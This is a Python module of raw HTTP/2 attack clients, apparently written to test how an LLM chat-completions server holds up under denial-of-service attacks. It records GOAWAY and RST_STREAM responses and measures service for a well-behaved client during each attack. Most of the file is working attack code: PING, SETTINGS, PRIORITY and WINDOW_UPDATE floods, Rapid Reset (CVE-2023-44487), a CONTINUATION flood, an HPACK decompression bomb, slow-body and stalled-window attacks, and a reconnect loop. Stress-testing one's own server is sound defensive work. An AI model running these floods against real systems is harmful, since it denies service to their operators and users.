"""HTTP/2 attack clients (prior knowledge, cleartext): raw frames from hyperframe and hpack over a
socket, since a well-mannered client library refuses to send most of them.

Each attack writes frames in batches while a reader collects what the server sends back (GOAWAY and
its code, RST_STREAM codes, response statuses), and stops when the server closes the connection or
the attack's size is spent. ``steady_streams`` is the well-behaved client to run beside an attack.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
CHAT = b'{"model":"llama-8b","messages":[{"role":"user","content":"hi"}],"max_tokens":%d,"stream":true}'


def request_headers(host: str, port: int, extra: list[tuple[str, str]] | None = None,
                    content_length: int | None = None) -> list[tuple[str, str]]:
    headers = [(":method", "POST"), (":scheme", "http"), (":authority", f"{host}:{port}"),
               (":path", "/v1/chat/completions"), ("content-type", "application/json")]
    if content_length is not None:
        headers.append(("content-length", str(content_length)))
    return headers + (extra or [])


@dataclass
class H2Report:
    """What the server did to one attacking connection."""

    # attack units (streams, frames) written before the client saw the server cut it off; much of it
    # may still have been in socket buffers then, unread by the server
    sent: int = 0
    goaway_code: int | None = None
    goaway_last_stream: int | None = None  # the highest stream the server says it processed
    goaway_after_s: float | None = None
    closed: bool = False  # the server closed the connection (EOF or reset)
    closed_after_s: float | None = None
    resets: Counter[int] = field(default_factory=Counter)  # RST_STREAM error codes received
    statuses: Counter[int] = field(default_factory=Counter)  # :status of responses received
    acked: int = 0  # PING and SETTINGS ACKs received: control frames the server processed
    bytes_received: int = 0


class Conn:
    """A raw HTTP/2 client connection: frames out, a reader task folding frames in into a report."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, read: bool = True) -> None:
        self.reader = reader
        self.writer = writer
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.report = H2Report()
        self.start = time.monotonic()
        self.gone = asyncio.Event()
        self.changed = asyncio.Event()  # set on every frame folded in and when the connection goes
        self.next_stream = 1
        self._reading = asyncio.ensure_future(self._read()) if read else None

    @classmethod
    async def open(cls, host: str, port: int, read: bool = True,
                   settings: dict[int, int] | None = None) -> Conn:
        reader, writer = await asyncio.open_connection(host, port)
        conn = cls(reader, writer, read)
        frame = SettingsFrame(0)
        frame.settings = dict(settings or {})
        writer.write(PREFACE + frame.serialize())
        return conn

    def stream_id(self) -> int:
        sid, self.next_stream = self.next_stream, self.next_stream + 2
        return sid

    def headers(self, sid: int, headers: list[tuple[str, str]], end_stream: bool, end_headers: bool = True,
                block: bytes | None = None) -> bytes:
        frame = HeadersFrame(sid)
        frame.data = self.encoder.encode(headers) if block is None else block
        frame.flags = {f for f, on in (("END_STREAM", end_stream), ("END_HEADERS", end_headers)) if on}
        return frame.serialize()

    async def send(self, data: bytes) -> bool:
        """Write and drain; False once the server has closed the connection."""
        if self.gone.is_set() or self.report.goaway_code is not None:
            return False
        try:
            self.writer.write(data)
            await self.writer.drain()
            await asyncio.sleep(0)  # let the reader see a GOAWAY or EOF
        except (ConnectionError, OSError):
            self._closed()
            return False
        if self.writer.transport.is_closing():  # a failed send closes it without raising here
            self._closed()
        return not self.gone.is_set() and self.report.goaway_code is None

    def _closed(self) -> None:
        if not self.report.closed:
            self.report.closed = True
            self.report.closed_after_s = time.monotonic() - self.start
        self.gone.set()
        self.changed.set()

    async def _read(self) -> None:
        buf = bytearray()
        report = self.report
        with contextlib.suppress(ConnectionError, OSError):
            while data := await self.reader.read(256 * 1024):
                report.bytes_received += len(data)
                buf += data
                while len(buf) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
                    if len(buf) < 9 + length:
                        break
                    frame.parse_body(memoryview(bytes(buf[9 : 9 + length])))
                    del buf[: 9 + length]
                    self._fold(frame)
        self._closed()

    def _fold(self, frame: Any) -> None:
        report = self.report
        self.changed.set()
        if isinstance(frame, GoAwayFrame):
            if report.goaway_code is None:
                report.goaway_code = frame.error_code
                report.goaway_last_stream = frame.last_stream_id
                report.goaway_after_s = time.monotonic() - self.start
        elif isinstance(frame, RstStreamFrame):
            report.resets[frame.error_code] += 1
        elif isinstance(frame, PingFrame | SettingsFrame) and "ACK" in frame.flags:
            report.acked += 1
        elif isinstance(frame, HeadersFrame):
            with contextlib.suppress(Exception):
                for name, value in self.decoder.decode(frame.data):
                    if name == ":status":
                        report.statuses[int(value)] += 1
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            ack = SettingsFrame(0)
            ack.flags.add("ACK")
            with contextlib.suppress(Exception):
                self.writer.write(ack.serialize())

    async def until(self, condition: Any, timeout_s: float) -> bool:
        """Wait (on frames arriving, not polling) until ``condition()`` or the connection ends."""
        loop = asyncio.get_running_loop()
        deadline = loop.time() + timeout_s
        while not condition() and not self.gone.is_set():
            self.changed.clear()
            try:
                await asyncio.wait_for(self.changed.wait(), max(0.0, deadline - loop.time()))
            except TimeoutError:
                break
        return bool(condition())

    async def drain_reads(self, timeout_s: float) -> H2Report:
        """Wait up to ``timeout_s`` for the server to close, then stop; the report."""
        if self._reading is None:  # a client that never read: read now, to find the GOAWAY
            self._reading = asyncio.ensure_future(self._read())
        await asyncio.wait({self._reading}, timeout=timeout_s)  # until EOF or reset
        self._reading.cancel()
        self.writer.close()
        return self.report


async def _flood(host: str, port: int, unit: bytes, count: int, batch: int, read: bool,
                 setup: bytes = b"", wait_s: float = 5.0, settings: dict[int, int] | None = None) -> H2Report:
    conn = await Conn.open(host, port, read=read, settings=settings)
    if setup:
        await conn.send(setup)
    while conn.report.sent < count:
        n = min(batch, count - conn.report.sent)
        if not await conn.send(unit * n):
            break
        conn.report.sent += n
    return await conn.drain_reads(wait_s)


async def ping_flood(host: str, port: int, count: int = 100_000, batch: int = 1000,
                     read: bool = False) -> H2Report:
    """PING after PING, by default never reading the ACKs (CVE-2019-9512)."""
    return await _flood(host, port, PingFrame(0, opaque_data=b"12345678").serialize(), count, batch, read)


async def settings_flood(host: str, port: int, count: int = 100_000, batch: int = 1000,
                         read: bool = False) -> H2Report:
    """Empty SETTINGS frames, each owed an ACK (CVE-2019-9515)."""
    return await _flood(host, port, SettingsFrame(0).serialize(), count, batch, read)


async def window_update_flood(host: str, port: int, count: int = 200_000, batch: int = 1000) -> H2Report:
    """Connection-level WINDOW_UPDATE frames for data never sent (each one parsed and applied)."""
    return await _flood(host, port, window_update(0, 1), count, batch, read=True)


async def priority_flood(host: str, port: int, count: int = 100_000, batch: int = 1000) -> H2Report:
    """PRIORITY frames for streams that never exist (CVE-2019-9513's frames)."""
    frame = PriorityFrame(3, depends_on=1, stream_weight=15)
    return await _flood(host, port, frame.serialize(), count, batch, read=True)


async def empty_data_flood(host: str, port: int, count: int = 100_000, batch: int = 1000) -> H2Report:
    """A request stream, then DATA frames with no payload and no END_STREAM (CVE-2019-9518)."""
    conn = Conn(*(await asyncio.open_connection(host, port)))
    conn.writer.write(PREFACE + SettingsFrame(0).serialize())
    setup = conn.headers(1, request_headers(host, port), end_stream=False)
    await conn.send(setup)
    unit = DataFrame(1).serialize()
    while conn.report.sent < count:
        n = min(batch, count - conn.report.sent)
        if not await conn.send(unit * n):
            break
        conn.report.sent += n
    return await conn.drain_reads(5.0)


async def rapid_reset(host: str, port: int, streams: int = 10_000, batch: int = 100) -> H2Report:
    """CVE-2023-44487: open a request stream and reset it at once, over and over; ``sent`` counts
    the streams opened before the server cut the connection off."""
    conn = await Conn.open(host, port)
    body = CHAT % 4
    hdrs = request_headers(host, port, content_length=len(body))
    while conn.report.sent < streams:
        out = bytearray()
        for _ in range(min(batch, streams - conn.report.sent)):
            sid = conn.stream_id()
            out += conn.headers(sid, hdrs, end_stream=False)
            data = DataFrame(sid, data=body)
            data.flags.add("END_STREAM")
            out += data.serialize()
            out += RstStreamFrame(sid, error_code=CANCEL).serialize()
            conn.report.sent += 1
        if not await conn.send(bytes(out)):
            break
    return await conn.drain_reads(5.0)


async def continuation_flood(host: str, port: int, frames: int = 100_000, batch: int = 100,
                             payload: bytes = b"") -> H2Report:
    """A HEADERS without END_HEADERS, then CONTINUATION frames that never end the block
    (CVE-2024-27316 and kin); ``sent`` counts the CONTINUATION frames written."""
    conn = await Conn.open(host, port)
    block = conn.encoder.encode(request_headers(host, port))
    await conn.send(conn.headers(1, [], end_stream=True, end_headers=False, block=block))
    unit = ContinuationFrame(1, data=payload).serialize()
    while conn.report.sent < frames:
        n = min(batch, frames - conn.report.sent)
        if not await conn.send(unit * n):
            break
        conn.report.sent += n
    return await conn.drain_reads(5.0)


def _literal_indexed(name: bytes, value: bytes) -> bytes:
    """An HPACK literal with incremental indexing, new name (RFC 7541 6.2.1), no Huffman."""
    return b"\x40" + _hpack_int(len(name), 7) + name + _hpack_int(len(value), 7) + value


def _hpack_int(value: int, prefix: int) -> bytes:
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([value])
    out = bytearray([limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


async def hpack_bomb(host: str, port: int, value_bytes: int = 4000, references: int = 10_000) -> H2Report:
    """One header block that adds a ``value_bytes`` entry to the dynamic table and then refers to it
    ``references`` times (one byte each): a few KB on the wire, tens of MB decoded."""
    conn = await Conn.open(host, port)
    enc = hpack.Encoder()
    block = enc.encode(request_headers(host, port)) + _literal_indexed(b"x-bomb", b"b" * value_bytes)
    block += bytes([0x80 | 62]) * references  # index 62: the newest dynamic table entry
    # send it as HEADERS + CONTINUATIONs of at most 16 KB each
    chunks = [block[i : i + 16_000] for i in range(0, len(block), 16_000)]
    out = conn.headers(1, [], end_stream=True, end_headers=len(chunks) == 1, block=chunks[0])
    for i, chunk in enumerate(chunks[1:], 1):
        frame = ContinuationFrame(1, data=chunk)
        if i == len(chunks) - 1:
            frame.flags.add("END_HEADERS")
        out += frame.serialize()
    await conn.send(out)
    conn.report.sent = 1
    return await conn.drain_reads(5.0)


async def many_headers(host: str, port: int, count: int = 200) -> H2Report:
    """One request with ``count`` small headers."""
    conn = await Conn.open(host, port)
    headers = request_headers(host, port, [(f"x-h{i}", "v") for i in range(count)])
    await conn.send(conn.headers(1, headers, True))
    conn.report.sent = 1
    await conn.until(lambda: conn.report.statuses or conn.report.resets, 5)
    return await conn.drain_reads(0.1)


async def excess_streams(host: str, port: int, streams: int = 200, hold_s: float = 2.0) -> H2Report:
    """``streams`` requests opened at once, none of them ending its body: those past the server's
    MAX_CONCURRENT_STREAMS should be refused."""
    conn = await Conn.open(host, port)
    hdrs = request_headers(host, port, content_length=len(CHAT % 4))
    out = b"".join(conn.headers(conn.stream_id(), hdrs, end_stream=False) for _ in range(streams))
    await conn.send(out)
    conn.report.sent = streams
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(conn.gone.wait(), hold_s)
    return await conn.drain_reads(0.1)


async def silent(host: str, port: int, preface: bool = True, wait_s: float = 30.0) -> H2Report:
    """A connection that sends the preface (or nothing at all) and then no request."""
    reader, writer = await asyncio.open_connection(host, port)
    conn = Conn(reader, writer)
    if preface:
        writer.write(PREFACE + SettingsFrame(0).serialize())
    return await conn.drain_reads(wait_s)


async def slow_body(host: str, port: int, interval_s: float = 1.0, wait_s: float = 40.0,
                    body_bytes: int = 100) -> H2Report:
    """A request whose body announces ``body_bytes`` and then arrives one byte per ``interval_s``:
    HTTP/2's slow POST. Reports the answer (its :status) or the reset that ended it."""
    conn = await Conn.open(host, port)
    headers = request_headers(host, port, content_length=body_bytes)
    await conn.send(conn.headers(1, headers, end_stream=False))
    loop = asyncio.get_running_loop()
    deadline = loop.time() + wait_s
    while conn.report.sent < body_bytes and loop.time() < deadline:
        if await conn.until(lambda: conn.report.statuses or conn.report.resets, interval_s):
            break
        last = conn.report.sent == body_bytes - 1
        if not await conn.send(DataFrame(1, data=b" ", flags=["END_STREAM"] if last else []).serialize()):
            break
        conn.report.sent += 1
    await conn.until(lambda: conn.report.statuses or conn.report.resets, max(0.0, deadline - loop.time()))
    return await conn.drain_reads(0.1)


async def closed_window(host: str, port: int, max_tokens: int = 200, wait_s: float = 30.0) -> H2Report:
    """A request whose client announces a zero stream window and never opens it: the answer cannot
    flow. Reports the RST_STREAM the server sends when its send-stall deadline passes."""
    conn = await Conn.open(host, port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    body = CHAT % max_tokens
    await conn.send(conn.headers(1, request_headers(host, port, content_length=len(body)), end_stream=False)
                    + DataFrame(1, data=body, flags=["END_STREAM"]).serialize())
    conn.report.sent = 1
    await conn.until(lambda: conn.report.resets, wait_s)
    return await conn.drain_reads(0.1)


async def repeated(attack: Callable[[], Awaitable[H2Report]], duration_s: float) -> list[H2Report]:
    """Run ``attack`` on one new connection after another for ``duration_s``, as an attacker who is
    cut off reconnects; one report per connection."""
    reports: list[H2Report] = []
    deadline = time.monotonic() + duration_s
    while time.monotonic() < deadline:
        reports.append(await attack())
    return reports


async def not_reading(host: str, port: int, max_tokens: int = 200_000, wait_s: float = 30.0) -> H2Report:
    """A long answer asked for with every flow-control window opened wide, and the socket never read:
    the server's send buffer fills. ``closed_after_s``: when a write (a PING every 0.2 s) failed,
    i.e. when the server dropped the connection."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # fill up sooner
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, (host, port))
    conn = Conn(*(await asyncio.open_connection(sock=sock)), read=False)
    big = SettingsFrame(0)
    big.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1}
    body = CHAT % max_tokens
    await conn.send(PREFACE + big.serialize() + window_update(0, 2**31 - 1 - 65_535)
                    + conn.headers(1, request_headers(host, port, content_length=len(body)), end_stream=False)
                    + DataFrame(1, data=body, flags=["END_STREAM"]).serialize())
    conn.report.sent = 1
    ping = PingFrame(0).serialize()
    deadline = time.monotonic() + wait_s
    while time.monotonic() < deadline and await conn.send(ping):
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(conn.gone.wait(), 0.2)
    conn.writer.close()
    return conn.report


@dataclass
class SteadyReport:
    """The well-behaved client's streams while an attack ran."""

    completed: int = 0
    failed: int = 0
    ttft_s: list[float] = field(default_factory=list)


async def steady_streams(url: str, stop: asyncio.Event, max_tokens: int = 4,
                         http2: bool = True) -> SteadyReport:
    """Short streaming chat requests one after another on one connection until ``stop`` is set."""
    import httpx

    report = SteadyReport()
    body = {"model": "llama-8b", "messages": [{"role": "user", "content": "hi"}],
            "max_tokens": max_tokens, "stream": True}
    async with httpx.AsyncClient(http1=not http2, http2=http2, timeout=30) as client:
        while not stop.is_set():
            start = time.monotonic()
            try:
                async with client.stream("POST", url + "/v1/chat/completions", json=body) as resp:
                    first = None
                    async for chunk in resp.aiter_bytes():
                        if first is None and chunk:
                            first = time.monotonic() - start
                    ok = resp.status_code == 200
            except httpx.HTTPError:
                ok = False
            if ok and first is not None:
                report.completed += 1
                report.ttft_s.append(first)
            else:
                report.failed += 1
    return report


def window_update(stream_id: int, increment: int) -> bytes:
    return WindowUpdateFrame(stream_id, window_increment=increment).serialize()
